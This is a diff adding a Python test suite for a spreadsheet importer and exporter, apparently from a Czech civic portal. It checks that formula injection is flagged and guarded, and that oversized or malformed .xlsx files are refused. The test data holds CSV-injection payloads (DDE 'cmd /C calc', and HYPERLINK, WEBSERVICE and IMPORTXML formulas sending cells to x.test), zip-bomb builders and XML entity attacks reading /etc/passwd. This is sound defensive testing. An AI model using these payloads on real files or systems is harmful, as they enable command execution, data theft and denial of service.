@@ -1,0 +1,242 @@
+"""Files for other programs and from them: no formula is let in or out unsaid, no size or form breaks the reader."""
+
+from __future__ import annotations
+
+import io
+import random
+import subprocess
+import sys
+import time
+import zipfile
+from functools import cache
+from pathlib import Path
+
+import pytest
+
+from macros.assessment_form import form
+from macros.formulas import formula, guard
+from macros.load import load_site
+from macros.spreadsheet import LARGEST, NoSpreadsheet, TooLarge, read_sheets
+from tests import portals
+
+# Formulas -----------------------------------------------------------------------------------------------
+
+RUNS = (
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://x.test?a="&A1;"klik")',
+    '=WEBSERVICE("https://x.test")',
+    '=DDE("cmd";"/C calc";"x")',
+    '=IMPORTXML(CONCAT("https://x.test?v="; A1); "//a")',
+    "＝cmd|' /C calc'!A0",
+    "＠SUM(1)",
+    " =cmd|' /C calc'!A0",
+    "\"=cmd|' /C calc'!A0",
+    "\t=cmd|'x'!A0",
+    "\u00a0=1+(2)",
+    "=Sheet2!A1",
+)
+LIKE = (
+    "=1+1",
+    "=A1",
+    "- bod seznamu",
+    "-poznámka",
+    "@mestocheb",
+    "+ příspěvek",
+    "＝1",
+    "- pozor! Volejte",
+    "--",
+)
+PLAIN = (
+    "",
+    "Cheb",
+    "+420731433007",
+    "+420 731 433 007",
+    "-5",
+    "-3,5 %",
+    "+5 (2020)",
+    "– pomlčka na začátku",
+    "a=b",
+    "info@azyl.cz",
+    "„uvozovky“ a text",
+    "'",
+)
+
+
+@pytest.mark.parametrize("text", RUNS)
+def test_what_a_spreadsheet_would_run_is_an_error(text: str) -> None:
+    assert formula(text) == "formula-runs"
+
+
+@pytest.mark.parametrize("text", LIKE)
+def test_what_only_begins_as_a_formula_is_a_warning(text: str) -> None:
+    assert formula(text) == "formula-like"
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_words_phones_and_numbers_are_no_formulas(text: str) -> None:
+    assert formula(text) == ""
+
+
+@pytest.mark.parametrize("text", (*RUNS, *LIKE))
+def test_a_guarded_cell_is_no_formula(text: str) -> None:
+    assert guard(text) == f"'{text}"
+
+
+def test_check_looks_at_every_text_column(portal: Path) -> None:
+    path = portal / "data_packages/services/data/contacts.csv"
+    lines = path.read_text(encoding="utf-8").split("\n")
+    cells = lines[1].split(",")
+    lines[1] = ",".join([*cells[:-1], "=A1|x"])
+    path.write_text("\n".join(lines), encoding="utf-8")
+    found = [one for one in portals.problems_of(portal) if one.rule == "formula-runs"]
+    assert [(one.row, one.column) for one in found] == [(2, "verified_by_role")]
+
+
+# Spreadsheets of others ---------------------------------------------------------------------------------
+
+
+@cache
+def sound_form() -> bytes:
+    """An empty form of the miniature site."""
+    return form(load_site(portals.FIXTURE).site.criteria_sets["sada-priklad"])
+
+
+def altered(part: str, find: str, replace: str, *more: tuple[str, str]) -> bytes:
+    """The sound form with a text of one part replaced, and other parts added."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(sound_form())) as old, zipfile.ZipFile(out, "w", 8) as new:
+        for name in old.namelist():
+            text = old.read(name).decode()
+            if name == part:
+                assert find in text
+                text = text.replace(find, replace, 1)
+            new.writestr(name, text)
+        for name, text in more:
+            new.writestr(name, text)
+    return out.getvalue()
+
+
+def opened(raw: bytes) -> list[list[object]]:
+    """Cells of the sheet with ratings."""
+    return read_sheets(raw, ["Hodnocení"])[0]["Hodnocení"]
+
+
+SHEET = "xl/worksheets/sheet3.xml"
+END = "</sheetData>"
+
+
+def far(reference: str) -> bytes:
+    """The sound form with one filled cell at a far place."""
+    row = "".join(filter(str.isdigit, reference))
+    return altered(
+        SHEET,
+        END,
+        f'<row r="{row}"><c r="{reference}" t="inlineStr"><is><t>x</t></is></c></row>{END}',
+    )
+
+
+def far_without_names() -> bytes:
+    """Cells that do not say where they are count from the row before."""
+    return altered(SHEET, END, f'<row r="1048575"/><row><c><v>1</v></c></row>{END}')
+
+
+def sixteen_bits() -> bytes:
+    """A sheet in UTF-16, where no search for letters would find the reference."""
+    with zipfile.ZipFile(io.BytesIO(far("XFD1048576"))) as old:
+        text = old.read(SHEET).decode()
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w", 8) as new:
+            for name in old.namelist():
+                if name != SHEET:
+                    new.writestr(name, old.read(name))
+            new.writestr(SHEET, text.replace("UTF-8", "UTF-16").encode("utf-16"))
+    return out.getvalue()
+
+
+STRINGS = "<sst>" + "<si><t>a</t></si>" * 1_000_000 + "</sst>"
+LARGE = {
+    "XFD1048576": (lambda: far("XFD1048576"), "na listu „Hodnocení“ je vyplněná buňka až XFD1048576"),
+    "ZZ100000": (lambda: far("ZZ100000"), "ZZ100000"),
+    "A1048576": (lambda: far("A1048576"), "1048576"),
+    "without references": (far_without_names, "1048576"),
+    "UTF-16": (sixteen_bits, "XFD1048576"),
+    "200 sheets": (
+        lambda: altered(SHEET, END, END, *((f"xl/worksheets/s{at}.xml", "<a/>") for at in range(200))),
+        "příliš mnoho listů",
+    ),
+    "a million shared strings": (
+        lambda: altered(SHEET, END, END, ("xl/more.xml", STRINGS)),
+        "rozbalený má víc než 10 MB",
+    ),
+    "zip bomb": (lambda: altered(SHEET, END, END + " " * 60_000_000), "rozbalený má víc než 10 MB"),
+    "a large file": (lambda: sound_form() + b"0" * LARGEST, "má víc než 10 MB"),
+    "many cells": (
+        lambda: altered(SHEET, END, ("<row>" + "<c><v>1</v></c>" * 90 + "</row>") * 2500 + END),
+        "má víc než 200000 vyplněných buněk",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", LARGE)
+def test_a_spreadsheet_is_measured_before_it_is_read(name: str) -> None:
+    make, said = LARGE[name]
+    raw = make()
+    started = time.perf_counter()
+    with pytest.raises(TooLarge, match=said):
+        opened(raw)
+    assert time.perf_counter() - started < 3
+
+
+def test_measuring_stays_under_200_megabytes(tmp_path: Path) -> None:
+    code = (
+        "import sys\nfrom pathlib import Path\nfrom macros import spreadsheet\n"
+        "for path in sys.argv[1:]:\n"
+        "    try:\n        spreadsheet.read_sheets(spreadsheet.read_bytes(Path(path)), ['Hodnocení'])\n"
+        "    except spreadsheet.TooLarge:\n        pass\n"
+        "print(Path('/proc/self/status').read_text().split('VmHWM:')[1].split()[0])"
+    )
+    paths = []
+    for name, (make, _) in LARGE.items():
+        paths.append(str(tmp_path / f"{name}.xlsx"))
+        Path(paths[-1]).write_bytes(make())
+    done = subprocess.run(
+        [sys.executable, "-c", code, *paths], capture_output=True, text=True, check=True, cwd=portals.ROOT
+    )
+    assert int(done.stdout) < 200_000
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><worksheet>&b;</worksheet>',
+        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet>&a;</worksheet>',
+        "<worksheet><sheetData>",
+    ],
+)
+def test_entities_and_broken_parts_are_refused(text: str) -> None:
+    with zipfile.ZipFile(io.BytesIO(sound_form())) as packed:
+        sheet = packed.read(SHEET).decode()
+    with pytest.raises(NoSpreadsheet):
+        opened(altered(SHEET, sheet, text))
+
+
+def test_an_empty_row_at_the_end_of_a_sheet_is_no_reason_to_refuse() -> None:
+    """LibreOffice writes such a row where a whole column has a format."""
+    raw = altered(SHEET, END, f'<row r="1048576"><c r="A1048576" s="1"/></row>{END}')
+    assert len(opened(raw)) < 100
+
+
+def test_a_damaged_spreadsheet_is_said_never_a_traceback() -> None:
+    chance = random.Random(20)
+    raw = sound_form()
+    for _ in range(300):
+        spoiled = bytearray(raw)
+        for _ in range(chance.randint(1, 8)):
+            spoiled[chance.randrange(len(raw))] = chance.randrange(256)
+        try:
+            opened(bytes(spoiled[: chance.choice((len(raw), chance.randrange(len(raw))))]))
+        except (NoSpreadsheet, TooLarge, KeyError):  # KeyError: the sheet has another name
+            continue
